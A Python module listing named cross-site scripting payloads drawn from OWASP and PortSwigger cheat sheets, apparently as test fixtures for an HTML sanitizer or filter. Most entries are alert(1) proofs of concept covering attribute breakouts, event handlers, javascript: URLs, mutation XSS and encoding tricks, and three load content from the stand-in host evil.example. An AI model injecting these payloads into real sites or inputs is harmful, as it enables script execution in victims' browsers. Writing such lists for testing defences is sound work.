"""Named ways to smuggle a script into a page, each of a class of its own. All call `alert`.

Sources: OWASP Cross-Site Scripting Filter Evasion Cheat Sheet, PortSwigger Cross-Site Scripting Cheat Sheet, html5sec.org,
Heyes and others on mutation (mXSS), OWASP on template injection.
"""

from typing import Final

INJECTIONS: Final[dict[str, str]] = {
    "script element": "<script>alert(1)</script>",
    "closing the attribute": '"><script>alert(1)</script>',
    "closing a single quote": "'><script>alert(1)</script>",
    "event in an attribute": '" autofocus onfocus=alert(1) x="',
    "event without quotes": "x onmouseover=alert(1) autofocus onfocus=alert(1)",
    "image error": "<img src=x onerror=alert(1)>",
    "slash for a blank": "<img/src=x/onerror=alert(1)>",
    "svg load": "<svg onload=alert(1)>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "details toggle": "<details open ontoggle=alert(1)>",
    "video source": "<video><source onerror=alert(1)>",
    "frame address": '<iframe src="javascript:alert(1)"></iframe>',
    "frame document": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "link address": '<a href="javascript:alert(1)" id=x autofocus>x</a>',
    "broken scheme": '<a href="java\tscript:alert(1)">x</a>',
    "data address": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "form action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "outside picture": '<img src="https://evil.example/x.png">',
    "closing the title": "</title><script>alert(1)</script>",
    "closing the text area": "</textarea><script>alert(1)</script>",
    "closing the choice": "</option></select><img src=x onerror=alert(1)>",
    "comment": "--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script>",
    "mutation by namespace": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "entities": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "double encoding": "%3Cscript%3Ealert(1)%3C/script%3E",
    "wide signs": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "template": "{{7*7}}${alert(1)}{% raw %}<%= alert(1) %>",
    "script literal": "';alert(1);//`${alert(1)}`",
    "line separators": "\u2028<script>alert(1)</script>\u2029",
    "custom element": "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
    "popover": "<button popovertarget=x>x</button><xss onbeforetoggle=alert(1) popover id=x>",
    "reversed text": "\u202e<script>alert(1)</script>",
}
